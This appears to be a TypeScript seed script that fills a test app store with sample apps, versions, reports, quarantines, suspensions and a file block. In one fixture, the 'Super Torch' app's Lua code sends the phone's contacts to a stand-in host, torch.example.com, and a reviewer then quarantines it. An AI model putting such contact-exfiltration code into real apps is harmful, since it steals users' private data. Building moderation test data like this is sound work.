import { apps, listings, safety, store, versions } from '@mosis/api'
import type { Version } from '@mosis/api'
import { audiences } from './audience.ts'
import type { Cast } from './cast.ts'
import { handInSketch, refOf, release } from './hand-in.ts'
import { sketchFiles } from './sketch.ts'
import type { Sketch } from './sketch.ts'
import { storeApps } from './store-apps.ts'
import { fetchApp } from './telemetry.ts'

/** Has the colleague publish the other apps of the store. */
export async function fillStore(cast: Cast, teamId: string): Promise<void> {
  await Promise.all(
    storeApps.map(async (app, index) => {
      await create(cast, app, index % 3 === 0 ? teamId : undefined)
      await publish(cast, app, 1)
    }),
  )
}

/** A further version of those that have one: of some a second, of fewer a third. */
export async function updateStore(cast: Cast, versionCode: 2 | 3): Promise<void> {
  const updated = storeApps.filter((_, index) => index % 3 >= versionCode - 1)
  await Promise.all(updated.map((app) => publish(cast, app, versionCode)))
}

async function publish({ colleague, reviewer }: Cast, app: Sketch, version_code: number): Promise<void> {
  const files = sketchFiles(app, { version: `1.${version_code - 1}.0`, version_code, lua: usesOf(app) })
  await release(colleague, reviewer, app.id, files, {
    release: 'when_approved',
    release_notes: version_code === 1 ? 'The first version' : 'Smaller and faster',
  })
}

/** Two that wait for a reviewer, and one that half of the devices get. */
export async function handInMore({ colleague, reviewer }: Cast): Promise<void> {
  const [metronome, garden, units] = storeApps
  await handInSketch(
    colleague,
    metronome,
    { version: '1.3.0', version_code: 9, lua: '-- swing\n' },
    { release: 'when_approved', release_notes: 'Swing' },
  )
  await handInSketch(colleague, units, {
    version: '2.0.0',
    version_code: 9,
    permissions: ['network.internet', 'camera'],
    lua: 'function rates()\n  return network.request({ url = "https://rates.example.com/today" })\nend\nfunction scan()\n  return permissions.request("camera") and camera.open()\nend\n',
  })
  const beta = await release(
    colleague,
    reviewer,
    garden.id,
    sketchFiles(garden, { version: '2.0.0', version_code: 9, lua: usesOf(garden) }),
    { release: 'manual' },
  )
  await colleague.call(versions.publishVersion, { params: refOf(beta), body: { rollout_percent: 50 } })
}

async function create({ colleague }: Cast, app: Sketch, team_id: string | undefined): Promise<void> {
  const { id, name, description, category, tags } = app
  await colleague.call(apps.createApp, { body: { id, name, description, category, tags, ...(team_id && { team_id }) } })
  await colleague.call(listings.putListing, {
    params: { app_id: id, locale: 'en' },
    body: { name, description, long_text: `${description}.\n\nNo account, no advertising, nothing to buy.` },
  })
}

/** Code that uses what the app asks for, so that no rule wonders why it asks. */
function usesOf({ permissions = [], domains = [] }: Sketch): string {
  const lines: Record<string, string> = {
    storage: 'function keep(text)\n  storage.write("kept.txt", text)\nend\n',
    'system.notifications': 'function remind()\n  notifications.show({ title = "It is time" })\nend\n',
    'network.internet': `function load()\n  return network.request({ url = "https://${domains[0] ?? 'example.com'}/today" })\nend\n`,
  }
  return permissions.map((name) => lines[name] ?? '').join('')
}

const torch: Sketch = {
  id: 'com.brightapps.torch',
  name: 'Super Torch',
  description: 'The brightest light for your phone, for free',
  category: 'utilities',
  tags: ['light'],
  permissions: ['network.internet', 'contacts.read'],
}
const cards: Sketch = {
  id: 'com.brightapps.cards',
  name: 'Card Maker',
  description: 'Greeting cards in a minute',
  category: 'communication',
  tags: ['cards'],
}
const radio: Sketch = {
  ...cards,
  id: 'com.brightapps.radio',
  name: 'Old Radio',
  description: 'Stations of the past',
  category: 'entertainment',
}

/** Reports, a quarantine with an appeal, one that a second person confirmed, a suspension and a block; all in the public log. */
export async function misbehave({ admin, reviewer, colleague, visitor }: Cast): Promise<void> {
  const published: Version[] = []
  for (const app of [torch, cards, radio]) {
    const { id, name, description, category, tags } = app
    await colleague.call(apps.createApp, { body: { id, name, description, category, tags } })
    const lua =
      app === torch
        ? 'function shine()\n  if permissions.request("contacts.read") then\n    network.request({ url = "https://torch.example.com/in", body = json.encode(contacts.query({})) })\n  end\nend\n'
        : ''
    published.push(await release(colleague, reviewer, id, sketchFiles(app, { version: '1.0.0', version_code: 1, lua })))
  }
  const [bad, stolen] = published
  if (!bad || !stolen) return
  for (const [app_id, category, text] of [
    [torch.id, 'private_data', 'It asked for my contacts. For a light?'],
    [cards.id, 'rights', 'The pictures on the first page are mine.'],
  ] as const) {
    await visitor(safety.reportApp, { params: { app_id }, body: { category, text, contact: 'reader@example.com' } })
  }
  await reviewer(safety.quarantineVersion, {
    params: refOf(bad),
    body: {
      reason_code: 'private_data',
      reason: 'assets/scripts/app.lua sends the contacts to torch.example.com when the light is switched on.',
      public_reason: 'It sends the contacts of the phone to its maker.',
    },
  })
  await admin(safety.confirmQuarantine, { params: refOf(bad) })
  await colleague.call(safety.appealQuarantine, {
    params: refOf(bad),
    body: { text: 'The contacts were for sending a light signal to friends. We can take it out.' },
  })
  await reviewer(safety.quarantineVersion, {
    params: refOf(stolen),
    body: {
      reason_code: 'rights',
      reason: 'The pictures of the first page belong to the person who wrote to us.',
      public_reason: 'It uses pictures without the right to.',
    },
  })
  await admin(safety.suspendApp, {
    params: { app_id: radio.id },
    body: {
      reason_code: 'policy',
      reason: 'It only advertises another app.',
      public_reason: 'It has no content of its own.',
    },
  })
  await admin(safety.createBlock, {
    body: {
      kind: 'file',
      value: '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea',
      reason: 'A script that was found in three apps and sends what is typed.',
      public_reason: 'A script that sends what people type.',
    },
  })
}

/** Two more reports, about apps that nobody has judged yet. */
export async function complain({ visitor }: Cast): Promise<void> {
  const report = (name: string, category: 'broken' | 'unsuitable_content', text: string) =>
    visitor(safety.reportApp, { params: { app_id: `com.northlight.${name}` }, body: { category, text } })
  await report('morse', 'broken', 'Silent since the update; the lamp still blinks.')
  await report('flashcards', 'unsuitable_content', 'One of the example decks is not for children.')
}

/** Stops offering an app of the team: somebody has to decide what becomes of it. */
export async function haltOne({ developer: { call } }: Cast): Promise<void> {
  const params = { app_id: 'com.northlight.recipebox' }
  const { versions: own } = await call(versions.listVersions, { params, query: { state: 'published' } })
  const [version] = own
  if (!version) throw new Error(`${params.app_id} should be in the store`)
  await call(versions.haltVersion, {
    params: refOf(version),
    body: { reason: 'Amounts for seven guests are rounded to nothing' },
  })
}

/** So many devices fetched each app of which nobody says how it is used. */
export async function download({ visitor }: Cast): Promise<void> {
  const { apps: offered } = await visitor(store.listStoreApps, { query: { limit: 100 } })
  const quiet = offered.filter(({ id }) => audiences.every(({ app_id }) => app_id !== id))
  for (const [index, { id }] of quiet.entries()) {
    for (let count = 0; count < 3 + ((index * 7) % 11); count += 1) await fetchApp(visitor, id)
  }
}
